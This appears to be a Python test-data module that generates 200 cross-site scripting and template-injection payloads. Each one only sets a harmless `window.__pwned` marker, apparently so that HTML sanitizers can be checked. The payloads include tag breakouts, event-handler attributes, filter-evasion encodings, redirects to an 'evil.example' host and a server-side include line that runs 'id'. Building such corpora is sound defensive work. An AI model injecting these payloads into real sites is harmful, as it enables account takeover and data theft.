"""Two hundred ways to make a page run what somebody typed. Each would set `window.__pwned` if it ran."""

from itertools import product
from typing import Final

_DOES: Final = "window.__pwned=1"

_BREAKOUTS: Final = (
    "",
    '">',
    "'>",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "--><!-- --!>",
    "]]>",
    "</svg>",
)
_TAGS: Final = (
    f"<script>{_DOES}</script>",
    f"<img src=x onerror={_DOES}>",
    f"<svg onload={_DOES}>",
    f"<svg><script>{_DOES}</script></svg>",
    f"<body onload={_DOES}>",
    f"<details open ontoggle={_DOES}>x</details>",
    f"<input autofocus onfocus={_DOES}>",
    f"<video><source onerror={_DOES}></video>",
    "<iframe srcdoc='<script>parent.__pwned=1</script>'></iframe>",
    f"<math><mtext></mtext><img src=x onerror={_DOES}></math>",
    f"<a href=javascript:{_DOES}>x</a>",
    f"<form action=javascript:{_DOES}><button autofocus>x</button></form>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    f"<div hx-on:load='{_DOES}' hx-trigger=load hx-get=/>x</div>",
)
_ATTRIBUTES: Final = tuple(
    f"x{quote} {event}={quote}{_DOES}{quote} y={quote}"
    for quote, event in product(("'", '"', "`", ""), ("onmouseover", "onfocus", "onload", "onanimationstart"))
)
_OTHERS: Final = (
    f"javascript:{_DOES}",
    f"JaVaScRiPt:{_DOES}",
    f"java\tscript:{_DOES}",
    f" javascript:{_DOES}",
    f"&#106;avascript:{_DOES}",
    "data:text/html,<script>parent.__pwned=1</script>",
    "data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19wd25lZD0xPC9zY3JpcHQ+",
    f"vbscript:{_DOES}",
    "{{ 7|add:7 }}{% load i18n %}",
    "{{constructor.constructor('window.__pwned=1')()}}",
    "${window.__pwned=1}",
    "#{window.__pwned=1}",
    "<%= 7*7 %>",
    "&lt;script&gt;window.__pwned=1&lt;/script&gt;",
    "\\u003cscript\\u003ewindow.__pwned=1\\u003c/script\\u003e",
    "%3Cscript%3Ewindow.__pwned=1%3C/script%3E",
    "＜script＞window.__pwned=1＜/script＞",
    "<scr<script>ipt>window.__pwned=1</scr</script>ipt>",
    "<ScRiPt >window.__pwned=1</sCrIpT >",
    "<script/x>window.__pwned=1</script>",
    "<script\x0b>window.__pwned=1</script>",
    "<<script>window.__pwned=1//<</script>",
    "<img/src='x'/onerror=window.__pwned=1>",
    "<img src=x onerror\n=\nwindow.__pwned=1>",
    '"};window.__pwned=1;//',
    "';window.__pwned=1;//",
    "`;window.__pwned=1;//",
    "</script><script>window.__pwned=1</script>",
    "\u2028window.__pwned=1//",
    "]]>><script>window.__pwned=1</script>",
    "<!--#exec cmd='id'-->",
    '=HYPERLINK("javascript:window.__pwned=1")',
    "ক<script>window.__pwned=1</script>খ",
    "\u202e<script>window.__pwned=1</script>",
)

PAYLOADS: Final = tuple(
    dict.fromkeys((*_OTHERS, *_ATTRIBUTES, *(end + tag for end, tag in product(_BREAKOUTS, _TAGS))))
)[:200]
assert len(PAYLOADS) == 200
